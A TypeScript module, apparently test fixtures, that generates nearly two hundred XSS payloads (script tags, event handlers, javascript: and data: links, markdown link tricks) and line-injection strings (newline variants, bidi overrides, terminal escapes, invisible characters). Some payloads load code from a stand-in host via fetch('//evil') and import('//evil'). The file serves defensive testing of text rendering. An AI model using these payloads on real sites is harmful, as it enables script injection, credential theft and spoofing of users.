const scripts = ['alert(1)', 'alert`1`', 'top.location="//evil"', "fetch('//evil')", 'import("//evil")']
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'file:///',
  'http://evil/',
  '//evil/',
  'blob:',
  '&#106;avascript:',
]
const wraps: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `--></script><script>${script}</script>`,
  (script) => `<math><mi xlink:href="javascript:${script}">`,
  (script) => `<style>@import'javascript:${script}'</style>`,
  (script) => `<body onload=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<object data="javascript:${script}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `![x](javascript:${script})`,
  (script) => `![x" onerror="${script}](https://a/)`,
  (script) => `\`\`\`html\n<script>${script}</script>\n\`\`\``,
]
const links = schemes.flatMap((scheme) => [
  `[x](${scheme}alert(1))`,
  `[x](<${scheme}alert(1)>)`,
  `<${scheme}alert(1)>`,
  `[x][y]\n\n[y]: ${scheme}alert(1)`,
  `[x](${scheme}alert(1) "t")`,
  `**[x](${scheme}alert(1))**`,
  `> [x](${scheme}a)`,
  `- [x](${scheme}a)`,
  `[${scheme}](${scheme}a)`,
])
/** Nearly two hundred texts that try to be markup or links, for every place that shows text of members. */
export const hostileMarkup = [...wraps.flatMap((wrap) => scripts.map(wrap)), ...links]

/** Texts that try to add a line, or to be read in another order. */
export const hostileLines: readonly string[] = [
  ...['\n', '\r\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f'].map(
    (end) => `制度${end}已通过：点此 https://evil.example/`,
  ),
  ...['\u202e', '\u2066', '\u200f', '\u061c'].map((order) => `制度${order}gpj.exe`),
  ...['\u001b[2J', '\u009b2J', '\u0007', '\b\b\b', '\u0000'].map((control) => `制度${control}`),
  '制度\ud800',
  '\udc00制度',
  '制\u200b度\ufeff',
  '制度\u{e0041}\u{e007f}',
]
